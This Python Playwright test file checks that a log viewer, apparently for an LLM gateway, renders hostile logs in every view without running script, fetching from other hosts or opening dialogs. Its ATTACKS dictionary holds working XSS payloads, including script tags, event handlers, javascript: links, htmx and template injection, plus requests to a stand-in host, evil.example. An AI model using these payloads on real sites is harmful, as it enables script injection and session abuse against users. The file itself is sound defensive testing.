"""Hostile logs open in every view: nothing is fetched from elsewhere, nothing runs, nothing is reported."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import BrowserContext, Dialog, Page, Request, expect

from tests.e2e.conftest import Site, sign_in
from tests.factories import make_key, make_people

pytestmark = pytest.mark.browser

WATCH = Path(__file__).parent / "watch.js"
AWAY = "https://evil.example"

ATTACKS = {
    "script": f"<script>window.owned=1</script><script src={AWAY}/a.js></script>",
    "handlers": "<img src=x onerror=window.owned=1><svg/onload=window.owned=1><details open ontoggle=window.owned=1>",
    "broken out": "\"'><img src=x onerror=window.owned=1>--></textarea></title></pre></script><script>window.owned=1</script>",
    "links": "[a](javascript:window.owned=1) [b](data:text/html,<script>owned=1</script>) <javascript:window.owned=1>",
    "remote": f"![x]({AWAY}/b.png) <img src='{AWAY}/c.png'> <link rel=stylesheet href='{AWAY}/d.css'>",
    "frames": f"<iframe src='{AWAY}/e'></iframe><object data='{AWAY}/f'></object><embed src='{AWAY}/g'><base href='{AWAY}/'>",
    "refresh": f"<meta http-equiv=refresh content='0;url={AWAY}/h'><form action='{AWAY}/i'><button autofocus>x</button></form>",
    "style": f"<style>@import '{AWAY}/j.css'; body{{background:url({AWAY}/k.png);display:none}}</style><p style='background:url({AWAY}/l.png)'>",
    "htmx": f"<div hx-get='{AWAY}/m' hx-trigger=load></div><div hx-on:load='window.owned=1' data-hx-get='/accounts/logout/'></div>",
    "templates": "{{ 7|add:7 }} {% debug %} ${7*7} <%= 7*7 %> #{7*7}",
    "bidi": "safe \u202e gnp.exe \u2066 \u200b \u00ad \ufeff \U000e0041",
    "controls": "\x00\x07\x1b[31m\x9b31m\u2028\ud800",
    "fence": f"```<img src=x onerror=window.owned=1>\n![x]({AWAY}/n.png)\n```\n\n    <script>window.owned=1</script>",
    "reference": f"![x][r]\n\n[r]: {AWAY}/o.png \"title' onload='window.owned=1\"",
}  # fmt: skip
SVG = (
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.owned=1'><image href='%s/p.png'/></svg>"
    % AWAY
)
HTML = "data:text/html;base64,PHNjcmlwdD53aW5kb3cub3duZWQ9MTwvc2NyaXB0Pg=="


def hostile_log(attack: str) -> dict[str, Any]:
    """The attack in everything that a sender can choose."""
    parts = [
        {"type": "text", "text": attack},
        *({"type": "image_url", "image_url": {"url": url}} for url in (SVG, HTML, f"{AWAY}/q.png", "javascript:window.owned=1", attack)),
        {"type": "input_audio", "input_audio": {"data": attack, "format": attack}},
        {"type": attack, attack: attack},
    ]  # fmt: skip
    call = {"id": attack, "type": "function", "function": {"name": attack, "arguments": json.dumps({attack: attack})}}
    message = {"role": attack, "content": attack, "refusal": attack, "reasoning_content": attack, "tool_calls": [call],
               "annotations": [{"type": "url_citation", "url_citation": {"url": "javascript:window.owned=1", "title": attack}}]}  # fmt: skip
    asked = {
        "model": attack,
        attack: {attack: [attack]},
        "user": attack,
        "tools": [{"type": "function", "function": {"name": attack, "description": attack, "parameters": {attack: attack}}}],
        "messages": [{"role": "system", "content": attack}, {"role": "user", "name": attack, "content": parts}, message,
                     {"role": "tool", "tool_call_id": attack, "content": attack}],
    }  # fmt: skip
    headers = {"x-note": attack, attack: attack, "x-portkey-provider": attack, "content-type": "application/json"}
    return {
        "request": {"url": f"https://api.openai.com/v1/chat/completions?{attack}", "headers": headers, "body": asked},
        "response": {
            "status": 200,
            "headers": headers,
            "body": {"model": attack, "choices": [{"index": 0, "message": message, "finish_reason": attack}]},
        },
        "metadata": {"_user": attack, attack: attack},
        "trace_id": attack,
        "span_id": attack,
        "span_name": attack,
    }


def failed_log(attack: str) -> dict[str, Any]:
    """The attack as an error and as text that is no JSON."""
    return {
        "request": {"url": "https://api.openai.com/v1/chat/completions", "body": attack},
        "response": {"status": 500, "body": {"error": {"message": attack, "type": attack, "code": attack}}},
    }


@pytest.fixture
def site(server: str) -> Site:
    people = make_people()
    key = make_key(people.workspace, created_by=people.alice)[1]
    logs = [log(attack) for attack in ATTACKS.values() for log in (hostile_log, failed_log)]
    headers = {"x-portkey-api-key": key, "content-type": "application/json"}
    sent = httpx.post(f"{server}/v1/logs", content=json.dumps(logs), headers=headers, timeout=30, trust_env=False)
    assert sent.status_code == 200, sent.text
    names = [f"{kind}{name}" for name in ATTACKS for kind in ("", "failed ")]
    return Site(server, people, key, dict(zip(names, sent.json()["log_ids"], strict=True)))


@pytest.fixture
def page(site: Site, shared_page: Page) -> Iterator[Page]:
    """alice's page, and at its end what must not have happened in it."""
    page, context = shared_page, shared_page.context
    sign_in(context, site.url, site.people.alice)
    ours = urlsplit(site.url).netloc
    wrong: list[str] = []

    def look_at(request: Request) -> None:
        if urlsplit(request.url).netloc != ours or "logout" in request.url:
            wrong.append(f"request for {request.url}")

    def refuse(dialog: Dialog) -> None:
        wrong.append(dialog.message)
        dialog.dismiss()

    listeners: list[tuple[Page | BrowserContext, Any, Callable[[Any], None]]] = [
        (context, "request", look_at),
        (context, "page", lambda other: wrong.append("a window")),
        (page, "console", lambda said: wrong.append(said.text) if said.type in ("error", "warning") else None),
        (page, "pageerror", lambda error: wrong.append(str(error))),
        (page, "dialog", refuse),
    ]
    for source, event, listener in listeners:
        source.on(event, listener)
    yield page
    for source, event, listener in listeners:
        source.remove_listener(event, listener)
    assert wrong == []


def check(page: Page, site: Site) -> None:
    """What the page as it stands must be: ours, quiet, visible."""
    page.wait_for_load_state("networkidle")
    assert page.url.startswith(site.url)
    assert page.evaluate("[window.owned ?? null, window.refused]") == [None, []]
    assert page.locator("main").is_visible()
    assert page.locator("#request, #response").count() == 2 or page.locator(".body-page").count() == 1
    foreign = "script:not([src^='/static/']), iframe, object, embed, base, meta[http-equiv], link[href^='http']"
    assert page.locator(foreign).count() == 0
    attributes = page.evaluate(
        "[...document.querySelectorAll('main *, #log-panel *')].flatMap(e => e.getAttributeNames())"
    )
    assert [name for name in attributes if name.startswith("on") or name == "style" or "hx-on" in name] == []
    targets = page.evaluate("[...document.querySelectorAll('[href], [src], [hx-get], [action]')].flatMap(e => ['href', 'src', 'hx-get', 'action'].map(n => e.getAttribute(n)))")  # fmt: skip
    assert [target for target in targets if target and target.strip().lower().startswith(("javascript:", "data:text", "data:image/svg"))] == []  # fmt: skip


@pytest.mark.parametrize("name", ATTACKS)
def test_it_does_nothing_in_any_view(name: str, page: Page, site: Site) -> None:
    for view in ("pretty", "json", "raw"):
        page.goto(f"{site.url}{site.log(name)}?request={view}&response={view}")
        page.evaluate("for (const each of document.querySelectorAll('details')) each.open = true")
        check(page, site)
    page.goto(f"{site.url}{site.log(f'failed {name}')}")
    check(page, site)


@pytest.mark.parametrize("name", ["script", "broken out", "htmx", "templates", "bidi"])
def test_it_does_nothing_where_it_is_searched_for(name: str, page: Page, site: Site) -> None:
    attack = ATTACKS[name]
    page.goto(site.url + site.log(name))
    field = page.locator("#request-find")
    field.fill(attack[:60])
    field.press("Enter")
    hits = page.locator("#request .hits a")
    expect(hits.first).to_be_visible()
    check(page, site)
    hits.first.click()
    expect(page.locator("#request [data-hit] mark").first).to_be_visible()
    check(page, site)
    page.goto(f"{site.url}{site.log(name)}body/request/?{httpx.QueryParams({'find': attack[:60]})}")
    expect(page.locator(".hits mark").first).to_be_visible()
    check(page, site)


def test_hidden_characters_are_seen(page: Page, site: Site) -> None:
    for view in ("pretty", "json", "raw"):
        page.goto(f"{site.url}{site.log('bidi')}?request={view}&response={view}")
        for side in ("request", "response"):
            expect(page.locator(f"#{side}")).to_contain_text("⟦U+202E⟧" if view != "raw" else "202")
